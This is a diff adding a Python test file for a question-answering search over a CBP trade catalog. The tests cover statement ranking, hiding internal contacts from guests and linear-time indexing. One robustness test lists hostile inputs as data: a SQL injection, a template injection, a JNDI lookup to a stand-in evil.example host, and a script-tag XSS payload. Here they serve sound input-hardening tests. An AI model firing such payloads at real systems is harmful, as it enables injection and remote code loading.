@@ -1,0 +1,214 @@
+"""A question finds the statement that answers it, in linear time, and shows nobody what is not for them."""
+
+import random
+from dataclasses import replace
+
+import pytest
+
+from content.catalog import KINDS, Catalog, Center, Contact, Duty, Question, Statement, Term
+from content.loading.loader import load
+from content.search.decision import curated, decide
+from content.search.explaining import explain
+from content.search.statement_index import index_of
+from content.search.statements import passages
+from tests.support.full_catalog import AUDITOR, REVENUE
+from tests.support.full_catalog import CATALOG as FULL
+from tests.support.paths import CONTENT
+
+PAGE = "https://www.cbp.gov/trade"
+
+
+def said(text: str) -> Statement:
+    return Statement(text, PAGE, "2026-11")
+
+
+def contact(value: str, purpose: str, audience: str = "public") -> Contact:
+    return Contact(value, purpose, PAGE, "2026-11", audience)
+
+
+QUOTA = replace(
+    REVENUE,
+    slug="quota",
+    name="Quota",
+    cbp_name="Quota",
+    statute_name="Agriculture programs",
+    summary=said("Running import quotas fairly."),
+    authority=(said("Quota is a Priority Trade Issue under 19 U.S.C. 4322(a)(1)."),),
+    facts=(
+        said("Quotas open on the first working day of the quota period at a set time."),
+        said("CBP cannot change quotas. Another agency sets the limits."),
+        said("A quota certificate is valid for 90 days."),
+        said("A quota bulletin costs nothing."),
+    ),
+    stats=(said("In fiscal year 2020, 512 quotas were filled, worth $3.4 million."),),
+    questions=(
+        Question("How do I report quota fraud?", "Use the violation form.", PAGE, "2026-11", also=("where can I denounce quota cheating",)),
+        Question("Is the quota full yet?", "See the weekly status report.", PAGE, "2026-11"),
+    ),
+    contacts=(contact("quota@cbp.example", "questions about quota"), contact("desk@cbp.example", "quota policy desk", "internal")),
+    tools=("Weekly status report", "Quota bulletins"),
+    synonyms=("quotas", "tariff-rate quota"),
+    resources=(),
+)
+ABSOLUTE = Term("absolute", "Absolute quota", "", said("A quota above which nothing may enter."), "", (), ("pti:quota",))
+RATE = Term("rate", "TRQ", "Tariff-rate quota", said("A quota above which a higher duty is paid."), "", (), ("pti:quota",))
+AUDIT = replace(
+    AUDITOR,
+    assignments=(Duty("Audits the books of importers."), Duty("Advises judges.", also=("who talks to courts",))),
+    skills=(Duty("A degree in accounting."),),
+)
+CATALOG = replace(
+    FULL,
+    ptis=(QUOTA,),
+    roles=(AUDIT,),
+    terms=(ABSOLUTE, RATE),
+    centers=(Center("003", "Automotive & Aerospace", "Detroit", PAGE, "2013"), Center("006", "Petroleum", "Houston", PAGE, "2013")),
+)
+
+
+@pytest.fixture(scope="module")
+def shipped() -> Catalog:
+    return load(CONTENT)
+
+
+def first(query: str, *, internal: bool = False) -> str:
+    """Return the first statement that is shown, with the address of a contact."""
+    shown = decide(CATALOG, query, internal=internal).shown
+    return (f"{shown[0].label} " if shown[0].kind == "contact" else "") + shown[0].text if shown else ""
+
+
+@pytest.mark.parametrize(
+    ("query", "answer"),
+    [
+        ("when do quotas open", "Quotas open on the first working day"),
+        ("how long is a quota certificate good", "A quota certificate is valid for 90 days."),
+        ("how many quotas were filled in 2020", "In fiscal year 2020, 512 quotas"),
+        ("which law makes quota a priority", "Quota is a Priority Trade Issue under 19 U.S.C."),
+        ("who sets the quota limits", "CBP cannot change quotas. Another agency"),
+        ("email address for quota questions", "quota@cbp.example questions about quota"),
+        ("how can I turn in quota cheaters", "Use the violation form."),
+        ("which center is for cars", "Automotive & Aerospace: Detroit"),
+        ("who checks the accounts of importers", "Audits the books of importers."),
+        ("which education does an auditor need", "A degree in accounting."),
+        ("who talks with a court", "Advises judges."),
+        ("slogan of the office", "Facilitate. Enforce. Protect."),
+    ],
+)
+def test_the_shape_of_a_question_chooses_the_statement(query: str, answer: str) -> None:
+    assert first(query).startswith(answer)
+
+
+def test_a_comparison_shows_both_sides() -> None:
+    shown = decide(CATALOG, "what is the difference between an absolute quota and a TRQ").shown
+    assert [passage.subject for passage in shown] == ["term:absolute", "term:rate"]
+
+
+def test_a_question_of_the_content_and_its_other_wordings_are_recognized_word_for_word() -> None:
+    for query in ("How do I report quota fraud?", "where can I denounce quota cheating"):
+        passage = curated(CATALOG, query)
+        assert passage is not None
+        assert passage.text == "Use the violation form."
+    assert curated(CATALOG, "How do I report quota fraud?", ("role",)) is None
+    assert curated(CATALOG, "is the moon full") is None
+
+
+def test_a_misspelled_word_is_corrected() -> None:
+    assert first("how long is a quota certificat good").startswith("A quota certificate is valid")
+
+
+@pytest.mark.parametrize("query", ["pizza recipes for tonight", "asdf qwer zxcv", "what is the meaning of life", "", "???", "the of and"])
+def test_a_question_about_something_else_finds_no_statement(query: str) -> None:
+    assert decide(CATALOG, query).shown == ()
+
+
+def test_an_internal_contact_is_only_for_staff() -> None:
+    assert first("mailbox of the quota policy desk", internal=True).startswith("desk@cbp.example")
+    decided = decide(CATALOG, "mailbox of the quota policy desk", internal=False)
+    assert not any(passage.internal for passage in (*decided.shown, *decided.more))
+
+
+def test_no_question_shows_an_internal_contact_to_a_guest(shipped: Catalog) -> None:
+    """Ask with the words of each internal contact, of its address and of its subject."""
+    internal = [passage for passage in passages(shipped) if passage.internal]
+    for passage in internal:
+        for query in (passage.text, passage.label, f"email {passage.text}", f"internal mailbox for {passage.subject.partition(':')[2]}"):
+            decided = decide(shipped, query, internal=False)
+            assert not any(each.internal for each in (*decided.shown, *decided.more)), query
+
+
+def test_statements_from_the_press_are_not_indexed(shipped: Catalog) -> None:
+    assert all(passage.origin.status != "secondary" for passage in passages(shipped))
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "\x00" * 500,
+        "\ud800 lone surrogate",
+        "\u202erevenue\u202c \u200b",
+        "どの関税率が適用されますか ۩ what привет rate",
+        "'; DROP TABLE deliveries; --",
+        "{{7*7}} ${jndi:ldap://evil.example/a} <script>alert(1)</script>",
+        "<!channel> <@U0001> http://evil.example/login",
+        "a" * 4_000,
+        "quota " * 700,
+        "? " * 2_000,
+        "A B C D E F G " * 300,
+        "10+2 8471.30 2018 19 U.S.C. 4322(a)(1) %%% $$$",
+    ],
+)
+def test_no_question_raises(query: str) -> None:
+    for internal in (True, False):
+        decided = decide(CATALOG, query, internal=internal)
+        assert len(decided.shown) <= 2
+    assert explain(CATALOG, query)
+
+
+def test_every_order_of_words_gets_an_answer_without_an_error(shipped: Catalog) -> None:
+    chance = random.Random(7)  # noqa: S311  # to be repeatable
+    words = [word for passage in passages(shipped) for word in passage.text.split()]
+    for _ in range(150):
+        decide(shipped, " ".join(chance.choices(words, k=chance.randrange(1, 40))))
+
+
+def test_the_work_grows_with_the_question_and_not_with_its_square(shipped: Catalog) -> None:
+    """Count steps, not seconds: the words that are read, each looked up once."""
+    from content.search.ranking import MAX_WORDS, read
+
+    index = index_of(shipped)
+    words = " ".join(passage.text for passage in passages(shipped)).split()
+    few, many = (len(read(index, " ".join(words[:count])).tokens) for count in (30, 3_000))
+    assert few <= 30
+    assert many <= MAX_WORDS
+
+
+def test_a_changed_catalog_compiles_its_own_index(shipped: Catalog) -> None:
+    query = "which division counts zebras"
+    changed = replace(shipped, office=replace(shipped.office, facts=(said("Zebras are counted by the zoo division."),)))
+    assert decide(changed, query).shown[0].text.startswith("Zebras are counted")
+    assert not any("Zebras" in passage.text for passage in decide(shipped, query).shown)
+
+
+def test_the_compiled_index_is_read_and_not_made_again(shipped: Catalog, monkeypatch: pytest.MonkeyPatch) -> None:
+    same = replace(shipped)
+    monkeypatch.setattr("content.search.compiling.compile_index", lambda _: pytest.fail("compiled again"))
+    assert index_of(same).units == index_of(shipped).units
+
+
+def test_the_reasons_name_words_weights_shapes_and_thresholds() -> None:
+    text = "\n".join(explain(CATALOG, "how long is a quota certificate good"))
+    parts = (
+        "Asks for a duration",
+        "“quota” names pti:quota",
+        "certificate:",
+        "has a duration: 0.60 × 1.00",
+        "shown: pti:quota, fact",
+        "from",
+    )
+    assert [part for part in parts if part not in text] == []
+
+
+def test_every_kind_of_statement_is_indexed() -> None:
+    expected = "assignment authority center contact definition fact link motto note page qa skill stat summary tools"
+    assert {passage.kind for passage in passages(FULL)} == set(expected.split())
+    assert {passage.subject.partition(":")[0] for passage in passages(FULL)} == set(KINDS)
